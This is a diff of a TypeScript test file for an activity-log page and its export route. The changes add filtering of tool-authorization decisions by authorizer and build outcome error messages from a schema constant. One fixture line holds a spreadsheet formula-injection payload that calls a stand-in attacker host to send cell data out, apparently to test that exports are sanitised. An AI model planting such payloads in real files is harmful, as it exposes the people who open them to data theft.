@@ -1,6 +1,7 @@
 import { renderToStaticMarkup } from "react-dom/server";
 import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
 import { appendAuditEvent, type NewAuditEvent } from "@/db/queries/audit";
+import { AUDIT_OUTCOMES } from "@/db/schema";
 import type { CurrentUser } from "@/lib/auth/session";
 import { startSandboxHarness, type SandboxHarness } from "@/sandbox/test-harness";
 import { GET as exportRoute } from "../api/activity/export/route";
@@ -18,6 +19,7 @@ const person = (id: string): CurrentUser => ({ sub: `auth0|activity-${id}`, name
 const alice = person("alice");
 const bob = person("bob");
 const busy = person("busy");
+const dana = person("dana");
 
 const CHAT_ID = "0b6f7d7e-3c55-4b8e-9d0c-6a1f2b3c4d5e";
 const HOSTILE_SUMMARY = '=HYPERLINK("https://evil.example/?q="&A1, "Rêsumé, \u201cquoted\u201d")\nsecond line';
@@ -143,6 +145,28 @@ describe("/activity", () => {
     expect(text(bobs)).toContain("Bob's secret plans");
   });
 
+  it("offers and filters the decisions the tool pipeline records, by their authorizer", async () => {
+    // As lib/ai/tools/pipeline.ts writes a decision: flat evidence naming its authorizer.
+    const decision = (authorizer: string, summary: string) => ({
+      action: "tool.authorization",
+      summary,
+      chatId: CHAT_ID,
+      turnId: "turn-1",
+      toolCallId: `call-${authorizer}`,
+      evidence: { tool: "get_calendar_events", authorizer, decision: "granted", connection: "google-oauth2", scopes: ["calendar"] },
+    });
+    await write(dana.sub, "2026-05-01T08:00:00.000Z", decision("token-vault", "Token Vault granted Google"));
+    await write(dana.sub, "2026-05-01T08:00:01.000Z", decision("in-chat-approval", "Approved in the chat"));
+    session.user = dana;
+    const html = await renderPage();
+    expect(html).toContain('<option value="token-vault">Token Vault exchange</option>');
+    expect(html).toContain('<option value="in-chat-approval">In-chat approval</option>');
+    expect(html).not.toContain('<option value="scopes">');
+    const byAuthorizer = text(await renderPage({ decision: "token-vault" }));
+    expect(byAuthorizer).toContain("Token Vault granted Google");
+    expect(byAuthorizer).not.toContain("Approved in the chat");
+  });
+
   it("filters by action, decision, outcome and dates in the user's time zone", async () => {
     expect(text(await renderPage({ action: "tool.buy_product" }))).not.toContain("Searched your documents");
     const byDecision = text(await renderPage({ decision: "approval" }));
@@ -162,7 +186,7 @@ describe("/activity", () => {
     const html = await renderPage({ outcome: "exploded", from: "2026-02-30", tz: "Mars/Olympus", after: "garbage" });
     expect(html).toContain('role="alert"');
     const page = text(html);
-    expect(page).toContain("The outcome must be one of done, error, cancelled, denied.");
+    expect(page).toContain(`The outcome must be one of ${AUDIT_OUTCOMES.join(", ")}.`);
     expect(page).toContain("The start date must be a date such as 2026-01-31.");
     expect(page).toContain('Unknown time zone "Mars/Olympus"');
     expect(page).toContain("The page link is not valid");
@@ -241,7 +265,7 @@ describe("activity export", () => {
     expect((await exportOf("")).status).toBe(400);
     const bad = await exportOf("format=csv&outcome=exploded");
     expect(bad.status).toBe(400);
-    expect(await bad.json()).toEqual({ error: { code: "bad_request", message: "The outcome must be one of done, error, cancelled, denied." } });
+    expect(await bad.json()).toEqual({ error: { code: "bad_request", message: `The outcome must be one of ${AUDIT_OUTCOMES.join(", ")}.` } });
     session.user = null;
     expect((await exportOf("format=jsonl")).status).toBe(401);
   });
